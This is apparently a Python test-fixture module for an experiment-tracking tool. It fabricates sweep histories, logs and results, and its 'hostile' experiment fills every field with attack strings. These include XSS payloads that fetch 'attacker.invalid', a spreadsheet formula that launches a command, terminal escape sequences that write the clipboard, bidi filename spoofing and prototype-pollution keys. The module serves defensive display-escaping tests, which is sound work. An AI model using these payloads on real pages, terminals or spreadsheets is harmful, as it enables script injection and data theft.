"""Experiments with a story, made in seconds: recorded by real claims, with the files of attempts.

`sweep` makes one that is over, `going_on` one that runs, `hostile` one of which every stored text
is an attack on who shows it. What ran never did: times, logs and results are made up, and the same
for the same arguments.
"""

import contextlib
import hashlib
import json
import math
import os
import random
import signal
from collections.abc import Iterator, Mapping, Sequence
from datetime import UTC, datetime, timedelta
from heapq import heappop, heappush
from pathlib import Path
from typing import Any

import attrs

from holdfast import StateManager
from holdfast.attempts.names import AttemptName
from holdfast.attempts.progress import trim
from holdfast.config.experiment_file import Experiment
from holdfast.lifecycle.events import ProcessExited, ProcessLost, Requested
from holdfast.lifecycle.records import ExperimentState, Ranks, ResultRef
from holdfast.results import aggregation
from holdfast.status import Reason
from holdfast.store.claim import Claim

__all__ = ["ATTACKS", "Wanted", "going_on", "hostile", "name_of_group", "sweep"]

_WORDS = ("Shape", "Device", "Label", "Shard", "Token", "Cache", "Index", "Queue", "Batch", "Graph")
#: Changes of an experiment that are one line of its journal.
_A_LINE = 100
_GIB = 1 << 30


@attrs.frozen(kw_only=True)
class Wanted:
    """What becomes of the processes of an experiment; all others complete at once.

    Attributes:
        failures: How many fail for good, spread over all of them.
        groups: Different reasons for which they do.
        retries: How many complete at their second attempt only.
        interruptions: How many lose an attempt to a dead machine before they complete.
        running: How many run at the end; only with `going_on`.
        pending: How many have not begun at the end; only with `going_on`, or *interrupted*.
        interrupted: Whether a user stopped it.
        curves: How many report their progress, step by step.
        points: How often.
        ranks: How many processes a launcher starts.
        width: Attempts at a time.
        began: When; an hour ago if None.
    """

    failures: int = 0
    groups: int = 3
    retries: int = 0
    interruptions: int = 0
    running: int = 0
    pending: int = 0
    interrupted: bool = False
    curves: int = 0
    points: int = 300
    ranks: int | None = None
    width: int = 8
    began: datetime | None = None


def sweep(
    manager: StateManager, n: int, *, experiment_id: str = "sweep", **wanted: Any
) -> ExperimentState:
    """An experiment of *n* processes that is over: aggregated, failed or interrupted.

    Its parameters are `lr`, `width` and `seed`, as far as *n* has that many divisors.
    """
    with _told(manager, n, experiment_id, Wanted(**wanted)) as (claim, story):
        last = story.now
        if story.wanted.interrupted:
            claim.record_many([_experiment("interrupt", last, reason=Reason.USER)])
        elif story.wanted.failures:
            claim.record_many([_experiment("fail", last, reason=Reason.EXIT)])
        else:
            claim.record_many([_experiment("complete", last)])
            built = aggregation.build(claim.state, claim.folder, story.experiment.params)
            aggregation.write(claim.folder, built)
            claim.record_many([_experiment("aggregate", last)])
    return manager.load(experiment_id)


@contextlib.contextmanager
def going_on(
    manager: StateManager, n: int, *, experiment_id: str = "going-on", **wanted: Any
) -> Iterator[Claim]:
    """An experiment of *n* processes that runs as long as the context does, owned by the caller.

    It runs on if the caller dies in it. What runs is the caller itself, as far as anybody can tell.
    """
    with _told(manager, n, experiment_id, Wanted(**wanted)) as (claim, _):
        claim.tick()
        yield claim


@contextlib.contextmanager
def _told(
    manager: StateManager, n: int, experiment_id: str, wanted: Wanted
) -> Iterator[tuple[Claim, "_Story"]]:
    axes = _axes(n)
    config = {
        "name": experiment_id,
        "command": ["python", "train.py", *(f"--{key}={{{key}}}" for key in axes)],
        "matrix": axes,
        "limits": {"timeout": "2h", "jobs": wanted.width},
        "retry": {"max_attempts": 2},
    }
    if wanted.ranks:
        config["ranks"] = wanted.ranks
    experiment = Experiment.from_config(config, manager.state_dir.parent)
    assert experiment.num_processes == n * (wanted.ranks or 1)
    began = wanted.began or datetime.now(UTC) - timedelta(hours=1)
    own = StateManager(manager.state_dir, clock=lambda: began)
    own.create(
        experiment_id,
        num_processes=experiment.num_processes,
        ranks=None if wanted.ranks is None else Ranks(count=wanted.ranks),
        config=experiment.to_config(),
        config_hash=experiment.config_hash(manager.state_dir),
        name=experiment_id,
        cwd=manager.state_dir.parent,
    )
    with manager.claim(experiment_id) as claim:
        story = _Story(claim.folder, experiment, experiment_id, wanted, began)
        claim.record_many([_experiment("start", began)])
        for line in story.lines():
            claim.record_many(line)
        yield claim, story


def name_of_group(group: int) -> str:
    """The error for which the processes of that group fail, the same word nowhere else."""
    first, second = divmod(group, len(_WORDS))
    return f"{_WORDS[first % len(_WORDS)]}{_WORDS[second]}Error"


def _axes(n: int) -> dict[str, list[Any]]:
    def divisor(of: int, most: float) -> int:
        return max(d for d in range(1, int(most + 1e-9) + 1) if of % d == 0)

    seeds = divisor(n, n ** (1 / 3))
    widths = divisor(n // seeds, math.sqrt(n // seeds))
    rates = n // seeds // widths
    axes: dict[str, list[Any]] = {
        "lr": [float(f"{0.3 * 0.75**i:.3g}") for i in range(rates)],
        "width": [16 * (i + 1) for i in range(widths)],
        "seed": list(range(1, seeds + 1)),
    }
    if len({*axes["lr"]}) < rates:  # more of them than three digits can tell
        axes["lr"] = [round(0.001 * (i + 1), 3) for i in range(rates)]
    return {key: values for key, values in axes.items() if len(values) > 1} or {"lr": [0.3]}


def _experiment(event: str, at: datetime, **more: Any) -> Requested:
    return Requested(entity="experiment", event=event, at=at, **more)


class _Story:
    """What happens to whom and when, in the order of time, with the files that it leaves."""

    def __init__(
        self,
        folder: Path,
        experiment: Experiment,
        experiment_id: str,
        wanted: Wanted,
        began: datetime,
    ) -> None:
        self.folder, self.experiment, self.id = folder, experiment, experiment_id
        self.wanted = wanted
        self.ranks = wanted.ranks or 1
        self.units = experiment.num_processes // self.ranks
        self.began = self.now = began
        self._random = random.Random(experiment.num_processes)
        for each in ("attempts", "results"):
            (folder / each).mkdir(exist_ok=True)
        over = self.units - wanted.running - wanted.pending
        self._failing = self._spread(wanted.failures, over)
        rest = [unit for unit in range(over) if unit not in self._failing]
        self._random.shuffle(rest)
        self._retried = set(rest[: wanted.retries])
        self._lost = set(rest[wanted.retries :][: wanted.interruptions])
        self._curves = self._spread(wanted.curves, self.units - wanted.pending)
        self._over = over

    @staticmethod
    def _spread(number: int, over: int) -> dict[int, int]:
        """That many of the units, the one and the other end among them, with their numbers."""
        assert number <= over
        if number == 1:
            return {over // 2: 0}
        return {round(i * (over - 1) / (number - 1)): i for i in range(number)}

    def lines(self) -> Iterator[list[Any]]:
        """What to record, each list at once."""
        happened = sorted(self._events(), key=lambda each: each[0])
        line: list[Any] = []
        for at, events in happened:
            self.now = max(self.now, at)
            line += events
            if len(line) >= _A_LINE:
                yield line
                line = []
        if line:
            yield line

    def _events(self) -> Iterator[tuple[datetime, list[Any]]]:
        free: list[float] = []
        for _ in range(self.wanted.width):
            heappush(free, self._random.uniform(0.0, 0.5))
        # The hour that has passed is that of all of them, however many they are.
        lasts = 3000.0 * self.wanted.width / max(self.units * 1.3, 1)
        for unit in range(self.units - self.wanted.pending):
            runs = unit >= self._over
            lost, failing = unit in self._lost, unit in self._failing
            tries = 2 if lost or failing or unit in self._retried else 1
            ready = 0.0
            for attempt in range(1, tries + 1):
                began = max(heappop(free), ready)
                lasted = lasts * self._random.uniform(0.6, 1.4)
                ready = began + lasted
                heappush(free, ready)
                yield (
                    self._at(began),
                    [
                        Requested(
                            entity="process", event="start", at=self._at(began), process=index
                        )
                        for index in self._indices(unit)
                    ],
                )
                ends = None
                if not (runs and attempt == tries):
                    ended = "lost" if lost and attempt == 1 else "failed"
                    ended = "completed" if attempt == tries and not failing else ended
                    ends = self._at(began + lasted), self._end(unit, attempt, began, lasted, ended)
                    again = tries > attempt and ended == "failed"
                    yield ends[0], ends[1] + (self._requeued(unit, ends[0]) if again else [])
                else:
                    self._output(unit, attempt, f"epoch 3: loss={self._random.random():.3f}\n", "")
                if unit in self._curves:
                    self._curve(unit, attempt, began, lasted, whole=ends is not None)

    def _at(self, seconds: float) -> datetime:
        return self.began + timedelta(seconds=round(seconds, 3))

    def _indices(self, unit: int) -> range:
        return range(unit * self.ranks, (unit + 1) * self.ranks)

    def _name(self, unit: int, attempt: int) -> str:
        count = self.wanted.ranks
        first = unit * self.ranks
        return str(AttemptName.of_process(self.id, first, attempt, ranks=count))

    def _requeued(self, unit: int, at: datetime) -> list[Any]:
        return [
            Requested(
                entity="process", event="requeue", at=at, process=index, facts={"max_attempts": 2}
            )
            for index in self._indices(unit)
        ]

    def _end(self, unit: int, attempt: int, began: float, lasted: float, how: str) -> list[Any]:
        """The facts of an attempt that is over, and its files."""
        at, host = self._at(began + lasted), f"node-{unit % 4 + 1}"
        said: dict[str, Any] = {"started_at": self._at(began), "ended_at": at, "host": host}
        usage = {
            "max_rss_bytes": int(_GIB * (0.5 + 3 * self._random.random())),
            "cpu_s": round(lasted * self._random.uniform(0.7, 3.5), 2),
        }
        if how == "lost":
            return [
                ProcessLost(
                    process=index,
                    attempt=attempt,
                    at=at,
                    evidence=f"{host} has booted since",
                    usage=usage,
                )
                for index in self._indices(unit)
            ]
        group = self._failing.get(unit, 0) % max(self.wanted.groups, 1)
        ended: dict[str, Any] = {"exit_code": 0}
        err = "\r".join(f"{p:3d}%|{'█' * (p // 10):10}|" for p in range(0, 101, 10)) + "\n"
        if how == "failed":
            ended = {"exit_code": 1}
            err = (
                "Traceback (most recent call last):\n"
                f'  File "/home/ada/train.py", line {100 + group}, in <module>\n    main()\n'
                f"{name_of_group(group)}: step {attempt * 17 + unit} of {unit} went wrong\n"
            )
            if group == 1:
                ended, err = {"signal": int(signal.SIGKILL), "reason": Reason.OUT_OF_MEMORY}, ""
                ended["error_message"] = "out of memory: killed by the kernel"
                usage["max_rss_bytes"] = 8 * _GIB
            if group == 2:
                ended, err = {"signal": int(signal.SIGTERM), "timed_out": True}, ""
                ended["error_message"] = "timed out after 2h"
        self._output(unit, attempt, f"host {host}\nattempt {attempt}\n", err)
        self._exit(unit, attempt, said | usage | ended)
        return [
            ProcessExited(
                process=index,
                attempt=attempt,
                at=at,
                **said,
                **ended,
                usage=usage,
                result=self._result(index, attempt) if how == "completed" else None,
            )
            for index in self._indices(unit)
        ]

    def _output(self, unit: int, attempt: int, out: str, err: str) -> None:
        stem = self.folder / "attempts" / self._name(unit, attempt)
        Path(f"{stem}.out").write_text(out)
        Path(f"{stem}.err").write_text(err)

    def _exit(self, unit: int, attempt: int, said: Mapping[str, Any]) -> None:
        plain = {
            key: value.isoformat() if isinstance(value, datetime) else value
            for key, value in said.items()
            if key not in ("reason", "error_message")
        }
        if said.get("reason") is Reason.OUT_OF_MEMORY:
            plain["out_of_memory"] = True
        path = self.folder / "attempts" / f"{self._name(unit, attempt)}.exit"
        path.write_text(json.dumps(plain))

    def _result(self, index: int, attempt: int) -> ResultRef:
        params = self.experiment.params[index]
        far = abs(math.log(params.get("lr", 0.3) / 0.03)) / 5
        wide = math.log2(params.get("width", 16)) / 10
        accuracy = min(0.99, max(0.1, 0.6 + wide - far + self._random.gauss(0, 0.02)))
        plain = {
            "accuracy": round(accuracy, 4),
            "loss": round(-math.log(accuracy), 4),
            "best": {"epoch": self._random.randint(10, 50)},
        }
        return _stored(self.folder, index, attempt, json.dumps(plain))

    def _curve(self, unit: int, attempt: int, began: float, lasted: float, *, whole: bool) -> None:
        points = self.wanted.points if whole else self.wanted.points // 2
        rate = self._random.uniform(2, 6)
        lines = []
        for step in range(1, points + 1):
            done = step / self.wanted.points
            plain = {
                "step": step,
                "total": self.wanted.points,
                "loss": round(math.exp(-rate * done) + 0.05 * self._random.random(), 4),
                "accuracy": round(1 - 0.9 * math.exp(-rate * done), 4),
                "message": f"epoch {step // 10}",
                "time": round((self._at(began + lasted * done)).timestamp(), 3),
            }
            lines.append(json.dumps(plain))
        path = self.folder / "attempts" / f"{self._name(unit, attempt)}.progress"
        path.write_text("\n".join(lines) + "\n")
        trim(path)
        last = self._at(began + lasted).timestamp() if whole else datetime.now(UTC).timestamp()
        os.utime(path, (last, last))


def _stored(folder: Path, index: int, attempt: int, text: str) -> ResultRef:
    """A result, without the syncs that thousands would take minutes for."""
    data = text.encode()
    path = f"results/{index}.{attempt}.json"
    (folder / path).write_bytes(data)
    return ResultRef(path=path, size=len(data), sha256=hashlib.sha256(data).hexdigest())


_SCRIPT = "window.attacked=1;fetch('http://attacker.invalid/');alert(1)"

#: Texts that do harm where somebody shows them as they are.
ATTACKS: Sequence[str] = (
    f"</script><script>{_SCRIPT}</script>",
    f"<!--<script>{_SCRIPT}//-->",
    f'"><img src=x onerror="{_SCRIPT}">',
    f"'><svg/onload='{_SCRIPT}'>",
    f"javascript:{_SCRIPT}",
    f'<a href="javascript:{_SCRIPT}">why</a>',
    f"</style><style>*{{display:none}}</style></title></textarea></noscript><b>{_SCRIPT}",
    "<link rel=stylesheet href=//attacker.invalid/x.css><base href=//attacker.invalid/>",
    '<meta http-equiv=refresh content="0;url=http://attacker.invalid/">',
    "{{ 7 * 7 }}{% raw %}${7*7}[[7*7]]",
    "&lt;b&gt; &#60;script&#62; ]]> ?> %s %n {0}",
    "line\u2028separator\u2029here",
    "\x1b]0;owned\x07\x1b[2J\x1b[31mred\x1b[0m\x9b2J\x1bc\x1b]52;c;b3duZWQ=\x07\x08\x08\x7f",
    "\u202egnp.exe\u202c\u2066left\u2069 \u200b\u200e\u061c",
    "日本語の名前 👩‍👩‍👧‍👦 🇩🇪 Z̷̢͎a̷͓l̶g̷o",
    "tab\tnewline\nreturn\rnul\x00bell\x07end",
    "=cmd|'/C calc'!A1",
    "[x](javascript:alert(1)) | `code` | @everyone ::error::owned",
)


def hostile(manager: StateManager, *, experiment_id: str | None = None) -> ExperimentState:
    """A failed experiment of which every text is an attack, and every value one that surprises.

    Completed, failed, lost and pending processes, logs and progress of all of them, results with
    NaN, the greatest numbers, deep and long texts, and keys that JavaScript takes for its own.
    """
    everything = " ".join(ATTACKS)
    count = len(ATTACKS)
    if experiment_id is None:
        experiment_id = "</script><img src=x onerror=alert(1)>\u202e"
    config = {
        "name": everything.replace("\x00", ""),
        "command": ["sh", "-c", everything.replace("\x00", "").replace("{", "").replace("}", "")],
        "matrix": {
            "attack": [each.replace("\x00", "") for each in ATTACKS],
            "__proto__": ["<b>polluted</b>"],
            "constructor": [1e308],
            "toString": [True],
            "long": ["x" * 100_000],
            "include": [{"deep": _deep(6)}],
        },
    }
    manager.create(
        experiment_id,
        num_processes=count,
        config=config,
        name=everything,
        cwd=f"/{ATTACKS[0]}",
        config_path=f"/{ATTACKS[2]}.toml",
    )
    with manager.claim(experiment_id) as claim:
        for each in ("attempts", "results"):
            (claim.folder / each).mkdir()
        claim.record("start", evidence=everything)
        for index, attack in enumerate(ATTACKS):
            _suffer(claim, index, attack, everything)
        claim.record("fail", reason="exit", error_message=everything, evidence=everything)
    manager.annotate(experiment_id, add=["a@b:c/d+e=f"], note=everything[:9_000])
    return manager.load(experiment_id)


def _suffer(claim: Claim, index: int, attack: str, everything: str) -> None:
    stem = claim.folder / "attempts" / f"{index}.1"
    raw = (attack + "\n" + everything + "\n").encode("utf-8", "surrogatepass")
    Path(f"{stem}.out").write_bytes(raw + b"\xff\xfe\x00\x80" + b"y" * 1_000_000 + b"\n")
    Path(f"{stem}.err").write_bytes(b"Traceback (most recent call last):\n" + raw + raw[:3000])
    odd = {"step": 1, "total": 1e308, "message": everything, attack[:150]: 1.5, "__proto__": 2}
    lines = [odd, {"step": math.nan, "constructor": attack}, {"step": 2, "time": 1e300}]
    Path(f"{stem}.progress").write_text("".join(json.dumps(each) + "\n" for each in lines) + '{"s')
    if index == len(ATTACKS) - 1:
        return
    claim.record("start", index, evidence=attack)
    if index % 3 == 0:
        result = {
            "accuracy": [math.nan, math.inf, -1e308, 5e-324, 10**25, True][index // 3 % 6],
            "__proto__": {"polluted": attack},
            "constructor": {"prototype": {"polluted": 1}},
            "hasOwnProperty": attack,
            attack: everything,
            "long": attack + "z" * 1_000_000 if index == 0 else "z",
            "surrogate": "\ud800",
            "deep": _deep(40),
            "list": [attack] * 50,
        }
        ref = _stored(claim.folder, index, 1, json.dumps(result))
        claim.record("complete", index, exit_code=0, result=ref, host=attack, evidence=attack)
    elif index % 3 == 1:
        long = everything + "e" * 1_000_000 if index == 1 else everything
        claim.record(
            "fail", index, exit_code=1, error_message=f"{attack} {long}", host=attack,
            evidence=everything,
        )  # fmt: skip
    else:
        claim.record("fail", index, signal=9, host=attack, evidence=attack)
        claim.record("requeue", index, requested_by_user=True, evidence=attack)
        claim.record("start", index)
        claim.record("fail", index, exit_code=2, reason="exit")
        Path(f"{claim.folder}/attempts/{index}.2.err").write_bytes(raw)


def _deep(levels: int) -> Any:
    found: Any = ATTACKS[0]
    for _ in range(levels):
        found = {"d": [found]}
    return found
